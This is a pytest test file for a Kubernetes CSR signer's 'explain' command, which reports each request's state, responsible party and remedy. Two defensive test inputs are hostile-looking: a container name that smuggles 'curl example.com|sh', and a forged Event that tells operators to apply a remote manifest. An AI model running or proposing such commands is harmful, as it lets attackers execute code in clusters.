"""`signerctl explain` says why a CSR stands where it stands, whose turn it is, and what to do."""

import json
import re
from collections.abc import Callable, Mapping
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from click.testing import Result

from csr_signer.errors import ConfigurationError
from csr_signer.events.outcome import Deferred, Refused
from csr_signer.kms import key as kms_key
from csr_signer.pipeline import __doc__ as pipeline_page
from sandbox.kms import Fault
from signerctl.doctor import result
from signerctl.doctor.walk import CHECKS
from signerctl.explanation import remedies, story, verdict
from signerctl.explanation.trial import STEPS, Trial
from signerctl.objects import CSRS
from tests.paths import DOCS
from tests.unit.function.builders import CSR_UID, POD, make_csr_object, make_pod_object
from tests.unit.signerctl.answers import Answers
from tests.unit.signerctl.doctor.healthy import CALICO, EVENTS, HONEST, NAMESPACE, REVIEWS, review
from tests.unit.signerctl.stage import SIGNER_NAME, Stage, signerctl

Json = dict[str, Any]
CSR = f"node-certs:{POD}"
NOW = datetime(2026, 11, 27, tzinfo=UTC)
POD_PATH = f"{NAMESPACE}/pods/{POD}"


def csr(**changes: Any) -> Json:
    """Returns an honest CSR of the configured signer that was filed just now, with one thing changed."""
    created = datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
    return make_csr_object(**{"signer_name": SIGNER_NAME, "created": created, **changes})


@pytest.fixture
def files(api: Answers, service: Answers) -> Callable[..., None]:
    """Puts CSRs and the honest pod into the cluster; everything else is healthy."""
    service.prepared |= HONEST | {"GET /readyz": (200, {"ok": True, "reasons": []})}

    def file(*csrs: Json, pod: Json | None = None) -> None:
        found = make_pod_object() if pod is None else pod
        api.prepared |= CALICO | {
            "GET /version": (200, {"gitVersion": "v1.37.2"}),
            NAMESPACE: (200, {"kind": "Namespace"}),
            f"{NAMESPACE}/pods": (200, {"items": [found], "metadata": {}}),
            POD_PATH: (200, found),
            REVIEWS: review(),
            f"GET {CSRS}": (200, {"items": list(csrs), "metadata": {}}),
            **{f"GET {CSRS}/{quote(each['metadata']['name'], safe='')}": (200, each) for each in csrs},
        }

    return file


@pytest.fixture
def run(
    document: Path, exporter_document: Path, api: Answers, service: Answers, tmp_path: Path
) -> Callable[..., Result]:
    """Runs the command with all options."""
    options: dict[str, str | Path] = {
        "--configuration": document,
        "--kubeconfig": api.kubeconfig(tmp_path),
        "--exporter-configuration": exporter_document,
        "--exporter-url": service.url,
    }
    words: list[str | Path] = [each for option in options.items() for each in option]
    return lambda *arguments: signerctl("explain", *arguments, *words)


def only(result: Result) -> Json:
    """Returns the only explanation of JSON output."""
    assert result.exit_code == 0, result.output
    (found,) = json.loads(result.stdout)["items"]
    assert isinstance(found, dict)
    return found


def condition(kind: str, reason: str, message: str) -> list[Mapping[str, str]]:
    """Returns one condition."""
    return [{"type": kind, "status": "True", "reason": reason, "message": message}]


STATES: dict[str, tuple[Json, tuple[str, int, str], str]] = {
    "nothing stops it": ({}, ("waiting", 8, "function"), "would approve and sign it"),
    "approved": (
        {"conditions": condition("Approved", "PodVerified", "")},
        ("waiting", 9, "function"),
        "would sign it",
    ),
    "it breaks a rule": (
        {"usages": ("cert sign",)},
        ("waiting", 6, "requester"),
        "has not denied it yet: usages.not_allowed: spec.usages",
    ),
    "denied by the function": (
        {"usages": ("cert sign",), "conditions": condition("Denied", "UsageNotAllowed", "usages.not_allowed: ...")},
        ("refused", 6, "requester"),
        "the function set Denied, UsageNotAllowed",
    ),
    "denied before the profile changed": (
        {"conditions": condition("Denied", "NameNotAllowed", "a name")},
        ("refused", 8, "requester"),
        "would now pass this decision",
    ),
    "denied by another approver": (
        {"conditions": condition("Denied", "Holiday", "no")},
        ("refused", 8, "requester"),
        "another approver set Denied, Holiday: no",
    ),
    "another signer's": (
        {"signer_name": "example.com/other"},
        ("foreign", 3, "operator"),
        'Unsupported value: "example.com/other"',
    ),
    "a foreign certificate": ({"certificate": b"no certificate"}, ("foreign", 11, "operator"), "did not sign"),
}


@pytest.mark.parametrize(("changes", "expected", "words"), STATES.values(), ids=STATES)
def test_each_state_has_its_step_turn_and_reason(
    files: Callable[..., None],
    run: Callable[..., Result],
    *,
    changes: Json,
    expected: tuple[str, int, str],
    words: str,
) -> None:
    """The decision is the function's own, made on this machine."""
    files(csr(**changes))
    found = only(run(f"csr/{CSR}", "--json"))
    assert (found["state"], found["step"], found["turn"]) == expected, found["why"]
    assert words in found["why"]
    assert found["remedy"]
    assert not found["causes"]


def test_an_address_that_is_not_visible_yet_is_the_requesters_turn() -> None:
    """The pod's status must show it, as the function's Event WaitingForRequester says; the exporter only resends."""
    waiting = Trial(step=6, outcome=Deferred(reason="addresses", retry_after=2), message="addresses are not visible")
    judged = verdict.judge(csr(), waiting, None, supported=())
    assert (judged.state, judged.turn) == ("waiting", "requester")
    assert "addresses are not visible" in judged.why


def test_a_waiting_csr_has_doctors_error_as_its_cause(
    files: Callable[..., None], run: Callable[..., Result], service: Answers
) -> None:
    """Nothing in the request stops it, so the cause is on the way: the operator gets it without a second command."""
    files(csr())
    service.prepared["POST /"] = 403, ""
    found = only(run(CSR, "--json"))
    assert found["turn"] == "operator"
    assert "but invoker: " in found["why"]
    assert "roles/run.invoker" in found["remedy"]
    assert [each["check"] for each in found["causes"] if each["level"] == "error"] == ["invoker"]


def test_a_certificate_that_peers_refuse_is_the_operators_turn() -> None:
    """The pod has its certificate and is not ready: explain names what doctor finds on its peers."""
    judged = verdict.Verdict(state="issued", why="it has it", turn=verdict.Turn.NONE, depends_on_peers=True)
    issued = story.Explanation(
        kind="CertificateSigningRequest", name="a", created=NOW, facts={}, step=11, account="a/b", verdict=judged
    )
    checks = {each.name: each for each in CHECKS}
    found = [
        story.Cause(check=checks["key-pairs"], result=result.warning("a volume is empty", "provide it")),
        story.Cause(check=checks["installation"], result=result.error("caCert is another CA", "write the patch")),
        story.Cause(check=checks["trust-bundle"], result=result.unknown("not seen")),
    ]
    told = story.accepted(issued, found)
    assert told.verdict.why == "it has it; but installation: caCert is another CA"
    assert (told.verdict.state, told.verdict.turn, told.verdict.remedy) == ("issued", "operator", "write the patch")
    assert told.causes == found
    unseen = story.accepted(issued, found[2:]).verdict
    assert unseen.why == "it has it; but it is not known whether its peers accept it: trust-bundle: not seen"
    assert unseen.turn == "operator"
    assert story.accepted(issued, []) == issued
    waits = verdict.Verdict(
        state="waiting",
        why="its image cannot be pulled",
        turn=verdict.Turn.REQUESTER,
        remedy="describe",
        depends_on_peers=True,
    )
    beside_a_warning = story.accepted(
        replace(issued, verdict=waits), [replace(found[1], result=result.warning("ends in 80 days", "rotate"))]
    ).verdict
    assert (beside_a_warning.turn, beside_a_warning.remedy) == ("requester", "describe")
    assert "ends in 80 days" in beside_a_warning.why


def test_each_refusal_that_our_configuration_causes_is_the_operators_turn() -> None:
    """With the remedy of docs/refusals.md, after a warning: an attacker's request may break the same rule.

    If it also breaks a rule that no configuration changes, the requester acts.
    """

    def judged(*codes: str) -> verdict.Verdict:
        trial = Trial(step=6, outcome=Refused(reason="NotAllowed", codes=codes), message="any")
        return verdict.judge(csr(), trial, None, supported=())

    for code, known in remedies.REMEDIES.items():
        assert (judged(code).turn == "operator") == known.is_configuration
        remedy = f"and leave the configuration as it is. If you did: {known.remedy}; `terraform apply`"
        assert (remedy in judged(code).remedy) == known.is_configuration
        assert judged(code, "usages.not_allowed").turn == "requester"
    configured = {code for code, known in remedies.REMEDIES.items() if known.is_configuration}
    assert {each.partition(".")[0] for each in configured} == {"requester", "request_name", "san"}


def record(**changes: object) -> str:
    """Returns an audit record of the CSR."""
    facts = {"event": "fault", "csr_uid": CSR_UID, "time": "2026-11-27T00:00:00+00:00", **changes}
    return json.dumps(facts) + "\n"


QUOTA = {"message": "Cloud KMS: quota exceeded", "fault": "QuotaError", "status": 429}
RIGHT = {"message": "user x must have the right to sign", "fault": "ConfigurationError", "status": 503}


FOREIGN = {"message": "a fault of another release", "fault": "Path", "status": 500}


def test_a_csr_that_no_pod_filed_needs_no_new_pod() -> None:
    """An administrator's CSR has no pod that could be deleted, and no other one would pass."""
    refused = verdict.Verdict(
        state="refused", why="the function set Denied", turn=verdict.Turn.REQUESTER, remedy="as usual"
    )
    for codes, remedy in ((("requester.not_a_pod", "usages.missing"), "only a pod"), (("usages.missing",), "as usual")):
        trial = Trial(step=6, outcome=Refused(reason="NotAllowed", codes=codes))
        assert remedy in verdict.again(refused, trial).remedy


@pytest.mark.parametrize(
    ("facts", "turn"),
    [(QUOTA, "service"), (RIGHT, "operator"), (FOREIGN, "service")],
    ids=["quota", "right", "a name that is no fault of this release"],
)
def test_the_functions_own_record_is_the_cause(
    files: Callable[..., None], run: Callable[..., Result], tmp_path: Path, *, facts: Json, turn: str
) -> None:
    """What only the function saw, its record tells; lines of other programs in its log do not matter."""
    files(csr())
    log = tmp_path / "function.log"
    log.write_text("started\n" + record(event="intent", message="about to sign") + record(**facts) + "{broken\n")
    found = only(run(CSR, "--records", str(log), "--json"))
    assert found["turn"] == turn
    assert f"the function says: {facts['message']}" in found["why"]
    assert [each["event"] for each in found["records"]] == ["intent", "fault"]


def test_a_malformed_record_ends_with_1(files: Callable[..., None], run: Callable[..., Result], tmp_path: Path) -> None:
    """The explanation lacks it, as the list of `signerctl list` would."""
    files(csr())
    log = tmp_path / "function.log"
    log.write_text(record(**QUOTA) + record(**QUOTA, time="yesterday"))
    result = run(CSR, "--records", str(log))
    assert result.exit_code == 1
    assert "error: malformed records: 1 skipped: the command did not use them" in result.stderr


REASONS = {"WaitingForOperator": "operator", "WaitingForRequester": "requester", "WaitingForService": "service"}


@pytest.mark.parametrize(("reason", "turn"), REASONS.items())
def test_the_functions_event_is_the_cause_without_records(
    files: Callable[..., None], run: Callable[..., Result], api: Answers, *, reason: str, turn: str
) -> None:
    """The Event on a waiting CSR and explain name the same actor.

    Events on other objects do not count, also not on the pod: users can write them in its namespace.
    """
    files(csr())
    event = {
        "involvedObject": {"kind": "CertificateSigningRequest", "name": CSR, "uid": CSR_UID},
        "reason": reason,
        "message": "the key is disabled",
        "reportingComponent": "kms-csr-signer",
    }
    other = {**event, "message": "another CSR", "involvedObject": {"name": CSR, "uid": "another"}}
    on_pod = {**event, "message": "a user's words", "involvedObject": {"kind": "Pod", "name": POD}}
    api.prepared[EVENTS] = 200, {"items": [other, event], "metadata": {}}
    api.prepared["GET /api/v1/namespaces/calico-system/events"] = 200, {"items": [on_pod], "metadata": {}}
    found = only(run(CSR, "--json"))
    assert found["turn"] == turn
    assert 'an Event says: "the key is disabled"' in found["why"]
    assert [each["message"] for each in found["events"]] == ["the key is disabled", "a user's words"]


def test_doctors_error_stands_beside_an_event(
    files: Callable[..., None], run: Callable[..., Result], api: Answers, service: Answers
) -> None:
    """Other users may write an Event like the function's: explain repeats no instruction of it as its own remedy."""
    files(csr())
    event = {
        "involvedObject": {"kind": "CertificateSigningRequest", "name": CSR, "uid": CSR_UID},
        "reason": "WaitingForOperator",
        "message": "kubectl apply -f https://example.com/fix.yaml",
        "reportingComponent": "kms-csr-signer",
    }
    api.prepared[EVENTS] = 200, {"items": [event], "metadata": {}}
    service.prepared["GET /readyz"] = 503, {"ok": False, "reasons": ["no ID token yet"]}
    found = only(run(CSR, "--json"))
    assert found["turn"] == "operator"
    assert "but exporter: " in found["why"]
    assert found["remedy"] == "the exporter's log says more; see the other checks"


KEY_FAULTS = {
    "no such version": ("NOT_FOUND", False, (7, "operator"), "KMS has no such key version"),
    "no such version, after the approval": ("NOT_FOUND", True, (0, "operator"), "KMS has no such key version"),
    "KMS out of reach": (
        "UNAVAILABLE",
        False,
        (8, "function"),
        "unknown: this machine gets no answer from Cloud KMS: ",
    ),
    "no right of the operator": ("PERMISSION_DENIED", True, (9, "function"), "your credentials may not read it"),
}


@pytest.mark.parametrize(("status", "approved", "expected", "words"), KEY_FAULTS.values(), ids=KEY_FAULTS)
def test_only_a_fault_of_the_key_itself_stops_it(
    files: Callable[..., None],
    run: Callable[..., Result],
    stage: Stage,
    monkeypatch: pytest.MonkeyPatch,
    *,
    status: str,
    approved: bool,
    expected: tuple[int, str],
    words: str,
) -> None:
    """The function asks for the public key before it approves. What only this machine cannot see stops nothing."""
    monkeypatch.setattr(kms_key, "OVERALL_SECONDS", 0.5)
    files(csr(conditions=condition("Approved", "PodVerified", "") if approved else []))
    stage.server.faults.add(Fault(method="GetPublicKey", status=status, times=0))
    found = only(run(CSR, "--json"))
    assert (found["step"], found["turn"]) == expected
    assert words in found["why"]
    if status != "NOT_FOUND":
        assert [(each["check"], each["level"]) for each in found["causes"]] == [("kms-key", "unknown")]


NAMES = [CSR, f"csr/{CSR}", POD, f"pod/{POD}", f"calico-system/{POD}"]


@pytest.mark.parametrize("name", NAMES)
def test_a_csr_is_found_by_its_name_and_by_its_pods(
    files: Callable[..., None], run: Callable[..., Result], name: str
) -> None:
    """A CSR of another pod, or of another signer of the same pod, is not explained."""
    another = csr(name="node-certs:another", pod="another", uid="00000000-0000-4000-8000-000000000000")
    kubelets = csr(name="csr-9", signer_name="kubernetes.io/kubelet-serving")
    files(csr(), another, kubelets)
    assert only(run(name, "--json"))["name"] == CSR


def test_attack_a_csr_with_the_name_of_a_pod(files: Callable[..., None], run: Callable[..., Result]) -> None:
    """It does not take the place of the pod's own CSR: the operator says which is meant."""
    files(csr(), csr(name=POD, signer_name="example.com/any", uid="00000000-0000-4000-8000-000000000000"))
    result = run(POD)
    assert result.exit_code == 1
    assert (
        f'POD|CSR: Invalid value: "{POD}": a CSR and a pod have this name: give csr/{POD} or pod/{POD}' in result.stderr
    )
    assert only(run(f"pod/{POD}", "--json"))["name"] == CSR


def test_a_fault_now_is_no_pass_for_a_refused_csr() -> None:
    """Only a decision that permits the request says that a new CSR like it would pass."""
    refused = verdict.Verdict(state="refused", why="Denied", turn=verdict.Turn.REQUESTER, remedy="as usual")
    fault = Trial(step=7, fault=ConfigurationError("no such key version"))
    deferred = Trial(step=6, outcome=Deferred(reason="addresses", retry_after=2))
    assert [verdict.again(refused, each) for each in (fault, deferred)] == [refused] * 2
    assert "would now pass" in verdict.again(refused, Trial(step=8)).why


def test_an_old_fault_of_the_function_is_not_its_last_word(
    files: Callable[..., None], run: Callable[..., Result], service: Answers, tmp_path: Path
) -> None:
    """What doctor finds now stands beside the function's record, and an attempt after the fault outdates it."""
    files(csr())
    service.prepared["POST /"] = 403, ""
    log = tmp_path / "function.log"
    log.write_text(record(**QUOTA))
    found = only(run(CSR, "--records", str(log), "--json"))
    assert "the function says: Cloud KMS: quota exceeded; but invoker: " in found["why"]
    log.write_text(record(**QUOTA) + record(event="intent", message="about to sign", time="2026-11-28T00:00:00+00:00"))
    assert "the function says" not in only(run(CSR, "--records", str(log), "--json"))["why"]


def test_a_csr_of_a_pod_that_is_gone_is_found(
    files: Callable[..., None], run: Callable[..., Result], api: Answers
) -> None:
    """The CSR stays for a while; the function refuses it."""
    files(csr())
    del api.prepared[POD_PATH]
    found = only(run(POD, "--json"))
    assert (found["name"], found["turn"]) == (CSR, "requester")
    assert "there is no pod of that name" in found["why"]


@pytest.mark.parametrize("name", ["nothing", "csr/nothing", "pod/nothing", "elsewhere/nothing"])
def test_a_name_that_means_nothing_is_an_error(
    files: Callable[..., None], run: Callable[..., Result], name: str
) -> None:
    """The message says what was searched, and how to list names."""
    files()
    result = run(name)
    assert result.exit_code == 1
    assert 'error: POD|CSR: Not found: "nothing": searched ' in result.stderr
    assert "kubectl get" in result.stderr


PROVISIONER = {"initContainers": [{"name": "node-certs-key-cert-provisioner"}]}
WAITING = {"name": "node-certs-key-cert-provisioner", "state": {"waiting": {"reason": "ImagePullBackOff"}}}
PODS: dict[str, tuple[Json, str]] = {
    "no node": ({"node": ""}, "it has no node yet"),
    "no init container": ({}, "no init container key-cert-provisioner"),
    "a component without a client": (
        {"service_account": "goldmane"},
        "operator gives it no init container that requests",
    ),
    "an init container that waits": (
        {"spec": PROVISIONER, "status": {"initContainerStatuses": [WAITING]}},
        "ImagePullBackOff",
    ),
    "a status of no container": (
        {"spec": PROVISIONER, "status": {"initContainerStatuses": [{**WAITING, "name": "x; curl example.com|sh"}]}},
        "node-certs-key-cert-provisioner has filed no CSR yet",
    ),
    "an init container that has not asked": ({"spec": PROVISIONER}, "has filed no CSR yet"),
    "an account of no profile": (
        {"service_account": "csi-node-driver"},
        "no profile of the cluster names service account",
    ),
}


@pytest.mark.parametrize(("changes", "words"), PODS.values(), ids=PODS)
def test_a_pod_without_a_csr_is_explained(
    files: Callable[..., None], run: Callable[..., Result], *, changes: Json, words: str
) -> None:
    """It has not asked; the function has nothing to do with that."""
    created = {"creationTimestamp": "2026-11-27T00:00:00Z"}
    files(pod=make_pod_object(**changes, metadata=created))
    found = only(run(POD, "--json"))
    assert (found["kind"], found["step"]) == ("Pod", 0)
    assert words in found["why"]
    assert found["remedy"]


def test_a_pod_whose_account_may_not_ask_is_explained(
    files: Callable[..., None], run: Callable[..., Result], api: Answers
) -> None:
    """RBAC refuses the CSR, and Calico's client only repeats it."""
    files(pod=make_pod_object(spec=PROVISIONER, metadata={"creationTimestamp": "2026-11-27T00:00:00Z"}))
    api.prepared[REVIEWS] = review(lambda spec: spec["resourceAttributes"]["verb"] == "create")
    assert "may not create CertificateSigningRequests" in only(run(POD, "--json"))["why"]


def test_the_table_says_the_same(files: Callable[..., None], run: Callable[..., Result]) -> None:
    """One line for each fact, and the answer to why."""
    files(csr())
    lines = run(CSR).stdout.splitlines()
    assert lines[0] == f"CertificateSigningRequest {CSR}"
    assert [line.split()[0] for line in lines[1:]][-4:] == ["step", "why", "turn", "to"]


def test_the_steps_are_the_pipelines() -> None:
    """The command names the steps as the pipeline and docs/architecture.md do."""
    assert pipeline_page is not None
    numbered = dict(re.findall(r"^ ?(\d+) (\w+)", pipeline_page, re.MULTILINE))
    assert list(numbered) == [str(number) for number in range(1, len(STEPS) + 1)]
    page = (DOCS / "architecture.md").read_text(encoding="utf-8")
    assert tuple(re.findall(r"^\| \d+ ([a-z, ]+) \|", page, re.MULTILINE)) == STEPS
